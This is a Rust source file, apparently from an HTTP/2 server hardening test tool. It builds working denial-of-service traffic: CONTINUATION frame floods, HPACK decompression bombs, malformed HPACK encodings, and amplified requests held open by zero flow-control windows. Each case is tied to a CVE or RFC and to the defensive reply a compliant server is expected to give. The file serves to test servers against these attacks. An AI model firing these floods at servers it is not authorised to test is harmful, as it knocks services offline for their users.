//! Header blocks: without an end, or larger than they look (RFC 7541, RFC 9113 §10.5).

use crate::attack::{Attack, Expected::*, HTTP2, Run, Shot};
use crate::flood::{FLOOD, Flood};
use crate::target::Target;
use crate::wire::frames::*;
use crate::wire::{Connection, Seen, fields, h2};
use anyhow::Result;

const CONTINUATIONS: &str = "8 CONTINUATION frames, 10 s";
const LIST: &str = "16 KiB and 100 fields: 431; past four times that: GOAWAY";

/// CONTINUATION frames of this payload without an end.
fn continuations(target: &Target, unit: fn(u64, &mut Vec<u8>)) -> Result<Seen> {
    Flood {
        limit: Some((8, 0.0)),
        first: |connection| {
            connection.send(&frame(HEADERS, END_STREAM, 1, &fields::get()));
            Ok(())
        },
        unit,
        ..FLOOD
    }
    .run_without_barriers(target)
}

/// A request whose fields are `count` times the same of `length` octets, which the block says in an octet each.
fn amplified(length: usize, count: usize) -> Vec<u8> {
    let mut block = fields::get();
    fields::remembered(&mut block, b"x-bomb", &vec![b'x'; length]);
    block.extend(std::iter::repeat_n(fields::NEWEST, count - 1));
    block
}

fn crumbs(count: usize) -> Vec<u8> {
    let mut block = fields::get();
    fields::remembered(&mut block, b"cookie", b"a=b");
    block.extend(std::iter::repeat_n(fields::NEWEST, count - 1));
    block
}

fn get_with(block: &[u8]) -> Vec<u8> {
    // In pieces that fit into frames.
    let mut pieces = block.chunks(16_000);
    let mut octets = Vec::new();
    let (first, mut left) = (pieces.next().unwrap_or_default(), pieces.len());
    octets.extend(frame(HEADERS, END_STREAM | if left == 0 { END_HEADERS } else { 0 }, 1, first));
    for piece in pieces {
        left -= 1;
        octets.extend(frame(CONTINUATION, if left == 0 { END_HEADERS } else { 0 }, 1, piece));
    }
    octets
}

fn bomb(target: &Target, block: Vec<u8>) -> Result<Seen> {
    h2(target, get_with(&block))
}

/// A block of these octets after a whole request.
fn broken(target: &Target, before: &[u8], after: &[u8]) -> Result<Seen> {
    h2(target, get_with(&[before, &fields::get(), after].concat()))
}

const BOMBS: &[Shot] = &[
    Shot { title: "4,000 octets twelve times", act: |t| bomb(t, amplified(4000, 12)), expected: &[Status(431)] },
    Shot {
        title: "4,000 octets a hundred times",
        act: |t| bomb(t, amplified(4000, 100)),
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
    },
    Shot {
        title: "4,000 octets sixteen thousand times",
        act: |t| bomb(t, amplified(4000, 16_000)),
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
    },
    Shot { title: "101 fields", act: |t| bomb(t, amplified(1, 98)), expected: &[Status(431)] },
    Shot { title: "500 fields", act: |t| bomb(t, amplified(1, 500)), expected: &[GoAway(ENHANCE_YOUR_CALM)] },
    Shot { title: "400 crumbs", act: |t| bomb(t, crumbs(400)), expected: &[Status(200)] },
    Shot { title: "1,000 crumbs", act: |t| bomb(t, crumbs(1000)), expected: &[Status(431)] },
    Shot { title: "16,000 crumbs", act: |t| bomb(t, crumbs(16_000)), expected: &[GoAway(ENHANCE_YOUR_CALM)] },
];

const BROKEN: &[Shot] = &[
    Shot { title: "an index of 0", act: |t| broken(t, &[], &[0x80]), expected: &[GoAway(COMPRESSION_ERROR)] },
    Shot {
        title: "an index past both tables",
        act: |t| broken(t, &[], &[0xFF, 0xFF, 0x03]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "an integer without an end",
        act: |t| broken(t, &[], &[0xFF; 40]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "an integer of 2⁶⁴",
        act: |t| broken(t, &[], &[0xFF, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x02]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "a string past the block",
        act: |t| broken(t, &[], &[0x00, 0x7F, 0xFF, 0x7F, b'x']),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "a Huffman string with EOS",
        act: |t| broken(t, &[], &[0x00, 0x84, 0xFF, 0xFF, 0xFF, 0xFF, 0x00]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "Huffman padding of zeros",
        act: |t| broken(t, &[], &[0x00, 0x81, 0x18, 0x01, b'x']),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "Huffman padding of an octet",
        act: |t| broken(t, &[], &[0x00, 0x82, 0x1F, 0xFF, 0x01, b'x']),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "a table of more than 4,096",
        act: |t| broken(t, &[0x3F, 0xE2, 0x1F], &[]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "a table's size after a field",
        act: |t| broken(t, &[], &[0x20]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "two sizes of a table",
        act: |t| broken(t, &[0x20, 0x3F, 0xE1, 0x1F], &[]),
        expected: &[Status(200)],
    },
    Shot {
        title: "three sizes of a table",
        act: |t| broken(t, &[0x20, 0x20, 0x20], &[]),
        expected: &[GoAway(COMPRESSION_ERROR)],
    },
    Shot {
        title: "sixteen thousand sizes of a table",
        act: |t| broken(t, &[0x20; 16_000], &[]),
        expected: &[GoAway(COMPRESSION_ERROR), GoAway(ENHANCE_YOUR_CALM)],
    },
];

/// Requests of some 131 octets that stand for 16 KiB of fields each, on every stream there is, and no window for what they ask.
fn held(target: &Target, sockets: bool, drips: bool) -> Result<Seen> {
    const STREAMS: u32 = 1024;
    let mut connection = Connection::start(target, &[(INITIAL_WINDOW_SIZE, 0)])?;
    for index in 0..STREAMS {
        let mut block = if sockets { fields::connect(&[]) } else { fields::get() };
        if index == 0 {
            fields::remembered(&mut block, b"x-bomb", &[b'x'; 3900]);
        } else {
            block.extend([fields::NEWEST; 4]);
        }
        let flags = if sockets { 0 } else { END_STREAM };
        connection.send(&headers(1 + 2 * index, flags, &block));
        if index % 16 == 15 {
            connection.take_what_came();
        }
    }
    connection.barrier();
    let deadline = std::time::Instant::now() + target.time;
    while std::time::Instant::now() < deadline && !connection.is_over() {
        if drips {
            for index in 0..STREAMS {
                connection.send(&window_update(1 + 2 * index, 1));
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
        connection.take_what_came();
    }
    Ok(connection.settle())
}

pub const ROWS: &[Attack] = &[
    Attack {
        name: "CONTINUATION flood, an octet each",
        why: "CVE-2024-27316 and others",
        limit: CONTINUATIONS,
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| continuations(target, |_, batch| batch.extend(frame(CONTINUATION, 0, 1, &[0x82])))),
    },
    Attack {
        name: "CONTINUATION flood, empty",
        why: "CVE-2024-27316 and others",
        limit: CONTINUATIONS,
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| continuations(target, |_, batch| batch.extend(frame(CONTINUATION, 0, 1, &[])))),
    },
    Attack {
        name: "CONTINUATION flood, 16 KiB each",
        why: "CVE-2024-27316 and others",
        limit: CONTINUATIONS,
        expected: &[GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| {
            continuations(target, |_, batch| {
                let mut block = Vec::new();
                fields::literal(&mut block, b"x", &[b'y'; 16_000]);
                batch.extend(frame(CONTINUATION, 0, 1, &block));
            })
        }),
    },
    Attack {
        name: "HPACK bombs",
        why: "CVE-2016-6581",
        limit: LIST,
        expected: &[],
        setting: HTTP2,
        run: Run::Shots(BOMBS),
    },
    Attack {
        name: "HPACK that breaks its rules",
        why: "RFC 7541, RFC 9113 §4.3",
        limit: "none may pass",
        expected: &[],
        setting: HTTP2,
        run: Run::Shots(BROKEN),
    },
    Attack {
        name: "WebSockets whose requests HPACK amplifies",
        why: "131 octets for 16 KiB, kept for a socket's life",
        limit: "16 MiB for a connection",
        expected: &[GoesOn, GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| held(target, true, false)),
    },
    Attack {
        name: "GETs that HPACK amplifies, held by a window of 0",
        why: "as above, for requests",
        limit: "16 MiB for a connection",
        expected: &[GoesOn, GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| held(target, false, false)),
    },
    Attack {
        name: "the same, with drips of one octet",
        why: "progress that is none",
        limit: "16 MiB for a connection",
        expected: &[GoesOn, GoAway(ENHANCE_YOUR_CALM)],
        setting: HTTP2,
        run: Run::Act(|target| held(target, false, true)),
    },
];
